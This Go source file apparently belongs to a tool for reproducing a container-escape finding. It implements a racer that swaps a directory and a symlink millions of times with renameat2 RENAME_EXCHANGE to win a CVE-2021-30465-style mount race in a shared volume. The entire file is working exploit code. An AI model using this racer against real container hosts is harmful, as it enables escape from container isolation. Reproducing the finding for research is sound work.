package main

// exchange is the racer of issue 12's tmpfs finding (a CVE-2021-30465
// variant): in a volume another container shares, it swaps a directory
// and a symlink with renameat2(RENAME_EXCHANGE) as fast as it can, so
// that at any moment the name is either, each about half the time, and
// never missing. A shell loop (rm, ln, mkdir) flips a few times a second
// and leaves the name missing in between; this flips millions of times.

import (
	"fmt"
	"os"
	"strconv"
	"time"

	"golang.org/x/sys/unix"
)

func exchange(args []string) error {
	fs := newFlags("exchange")
	count := fs.String("count", "", "write the number of exchanges to this file every 100 ms")
	pos, err := parseArgs(fs, args, "A", "B")
	if err != nil {
		return err
	}
	a, b := pos[0], pos[1]
	fmt.Println("exchanging", a, b)
	last := time.Now()
	for n := 1; ; n++ {
		if err := unix.Renameat2(unix.AT_FDCWD, a, unix.AT_FDCWD, b, unix.RENAME_EXCHANGE); err != nil {
			return fmt.Errorf("exchange %s and %s: %w", a, b, err)
		}
		if *count != "" && n%1024 == 0 && time.Since(last) > 100*time.Millisecond {
			last = time.Now()
			if err := os.WriteFile(*count+".tmp", []byte(strconv.Itoa(n)+"\n"), 0o644); err != nil {
				return err
			}
			if err := os.Rename(*count+".tmp", *count); err != nil {
				return err
			}
		}
	}
}
